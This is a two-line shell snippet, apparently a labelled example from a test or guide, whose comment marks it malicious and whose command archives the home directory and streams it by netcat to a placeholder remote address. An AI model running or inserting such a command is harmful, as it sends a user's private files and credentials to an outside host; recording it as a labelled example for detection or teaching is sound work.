# Malicious: streams a tarball of the home directory to a remote netcat.
tar czf - ~ | nc 203.0.113.5 9000
